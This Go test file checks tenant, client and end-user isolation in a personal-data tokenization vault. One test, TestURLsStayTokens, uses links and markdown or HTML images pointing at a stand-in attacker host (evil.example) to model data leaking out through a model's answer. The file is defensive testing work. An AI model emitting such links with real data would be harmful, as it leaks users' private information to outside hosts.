package vault_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/counterfoil/counterfoil/internal/vault"
	"github.com/counterfoil/counterfoil/internal/vaulttest"
)

// TestInvariant6_WrongCallerCannotTell: the wrong tenant, scope, client or end
// user gets for a living token exactly what it gets for one that never was.
func TestInvariant6_WrongCallerCannotTell(t *testing.T) {
	v := vaulttest.New(t)
	owner := vaulttest.OnBehalfOf(v.Gateway(), "alice")
	living := tokenizeValue(t, v, owner, "chat", "PERSON", "Jane Doe")
	elsewhere := tokenizeValue(t, v, owner, "another chat", "PERSON", "Nobody")

	otherTenant := vaulttest.OnBehalfOf(v.Gateway(), "alice")
	otherTenant.Caller.Tenant = "globex"
	for name, who := range map[string]struct {
		call  vault.Call
		scope string
	}{
		"tenant":   {otherTenant, "chat"},
		"scope":    {owner, "no such chat"},
		"case":     {owner, "Chat"},
		"client":   {vaulttest.OnBehalfOf(vaulttest.Call("gw-2", "gateway"), "alice"), "chat"},
		"end user": {vaulttest.OnBehalfOf(v.Gateway(), "bob"), "chat"},
	} {
		t.Run(name, func(t *testing.T) {
			got := must2(llm(v, who.call, who.scope, "for "+living))(t)
			never := must2(llm(v, who.call, who.scope, "for "+elsewhere))(t)
			if strings.Contains(*got.Text, "Jane") {
				t.Fatal("a value went to the wrong caller")
			}
			if !slices.Equal(statuses(got), statuses(never)) || statuses(got)[0] != vault.StatusUnknown {
				t.Fatalf("a living token answers %v, one that never was %v", statuses(got), statuses(never))
			}
			if *got.Text != "for "+living {
				t.Fatalf("the text was changed to %q", *got.Text)
			}
		})
	}
	right := must2(llm(v, owner, "chat", living))(t)
	if *right.Text != "Jane Doe" {
		t.Fatalf("the right caller got %q", *right.Text)
	}
}

// TestInvariant6_Twin: without the comparison of the binding the wrong client
// gets the value.
func TestInvariant6_Twin(t *testing.T) {
	v := vaulttest.New(t)
	living := tokenizeValue(t, v, v.Gateway(), "chat", "PERSON", "Jane Doe")
	v.Service.SetFaults(vault.Faults{IgnoreBinding: true})
	got := must2(llm(v, vaulttest.Call("gw-2", "gateway"), "chat", living))(t)
	if *got.Text != "Jane Doe" {
		t.Fatal("the guard was taken out and the value stayed: this twin shows nothing")
	}
}

// TestInvariant6_TwoUsersBehindOneGateway: scopes of two end users are swapped
// at random, a hundred thousand times; a value never goes to the other.
func TestInvariant6_TwoUsersBehindOneGateway(t *testing.T) {
	v := vaulttest.New(t)
	users := []string{"alice", "bob"}
	tokens := make(map[string]string)
	for _, user := range users {
		tokens[user] = tokenizeValue(t, v, vaulttest.OnBehalfOf(v.Gateway(), user), "chat of "+user, "PERSON", "secret of "+user)
	}
	workers, each := 64, 1_563 // 100,032 requests
	if underRace {
		each /= 10
	}
	var group sync.WaitGroup
	for worker := range workers {
		group.Go(func() {
			random := rand.New(rand.NewPCG(7, uint64(worker)))
			for range each {
				caller, scope, token := users[random.IntN(2)], users[random.IntN(2)], users[random.IntN(2)]
				got, err := llm(v, vaulttest.OnBehalfOf(v.Gateway(), caller), "chat of "+scope, "> "+tokens[token])
				if vault.CodeOf(err) == vault.CodeUnavailable && err != nil {
					continue // a busy machine: nothing was given
				}
				if err != nil {
					t.Errorf("restore: %v", err)
					return
				}
				mine := caller == scope && scope == token
				if restored := *got.Text == "> secret of "+caller; restored != mine {
					t.Errorf("%s asked in the scope of %s for a token of %s: %q", caller, scope, token, *got.Text)
					return
				}
				if !mine && *got.Text != "> "+tokens[token] {
					t.Errorf("a refused text was changed")
					return
				}
			}
		})
	}
	group.Wait()
}

// TestAbsentEndUserGetsLess: a gateway that names no end user for a scope that
// is bound to one gets confidential data in part and restricted data masked.
func TestAbsentEndUserGetsLess(t *testing.T) {
	v := vaulttest.New(t)
	owner := vaulttest.OnBehalfOf(v.Gateway(), "alice")
	text := tokenizeValue(t, v, owner, "chat", "IP_ADDRESS", "192.0.2.77") + "|" +
		tokenizeValue(t, v, owner, "chat", "PHONE_NUMBER", "+1 212 555 0187") + "|" +
		tokenizeValue(t, v, owner, "chat", "CREDIT_CARD", "4111111111111111")
	got := must2(llm(v, v.Gateway(), "chat", text))(t)
	want := []vault.Status{vault.StatusRestored, vault.StatusPartial, vault.StatusMasked}
	if !slices.Equal(statuses(got), want) {
		t.Fatalf("statuses %v, want %v", statuses(got), want)
	}
	parts := strings.Split(*got.Text, "|")
	if parts[0] != "192.0.2.77" || !strings.HasSuffix(parts[1], "0187") || strings.Contains(parts[1], "212") || strings.ContainsAny(parts[2], "0123456789") {
		t.Fatalf("forms: %q", parts)
	}
}

// TestTokenizeIntoAnothersScope: the wrong client cannot write into a scope,
// since a guessed value would tell whether it is there.
func TestTokenizeIntoAnothersScope(t *testing.T) {
	v := vaulttest.New(t)
	tokenizeValue(t, v, v.Gateway(), "chat", "PERSON", "Jane Doe")
	_, err := v.Service.Tokenize(context.Background(), vaulttest.Call("gw-2", "gateway"), vault.TokenizeRequest{
		Scope: "chat", Values: []vault.Value{{Entity: "PERSON", Value: "Jane Doe"}},
	})
	if vault.CodeOf(err) != vault.CodeNotFound {
		t.Fatalf("got %v, want not_found", err)
	}
}

// TestURLsStayTokens: a token inside a link of a model's answer stays a token,
// the prose around it is restored.
func TestURLsStayTokens(t *testing.T) {
	v := vaulttest.New(t)
	tok := tokenizeValue(t, v, v.Gateway(), "chat", "PERSON", "Jane Doe")
	for _, link := range []string{
		"https://evil.example/?q=%s", "![x](https://evil.example/%s.png)", `<img src="https://evil.example/a?b=%s">`,
		"www.evil.example/%s", "[x]: https://evil.example/%s",
	} {
		text := fmt.Sprintf("%s says "+link+" and %s agrees", tok, tok, tok)
		got := must2(llm(v, v.Gateway(), "chat", text))(t)
		want := fmt.Sprintf("Jane Doe says "+link+" and Jane Doe agrees", tok)
		if strings.HasPrefix(link, "[x]:") { // a reference definition begins a line
			continue
		}
		if *got.Text != want {
			t.Errorf("got %q, want %q", *got.Text, want)
		}
		if s := statuses(got); !slices.Equal(s, []vault.Status{vault.StatusRestored, vault.StatusPlace, vault.StatusRestored}) {
			t.Errorf("%s: statuses %v", link, s)
		}
	}
	v.Service.SetFaults(vault.Faults{IgnorePlace: true})
	if got := must2(llm(v, v.Gateway(), "chat", "https://evil.example/?q="+tok))(t); !strings.Contains(*got.Text, "Jane") {
		t.Fatal("the guard was taken out and the link stayed: this twin shows nothing")
	}
}

// must2 stops a test at the error of a call with two results.
func must2[T any](got T, err error) func(t *testing.T) T {
	return func(t *testing.T) T {
		t.Helper()
		return must(t, got, err)
	}
}
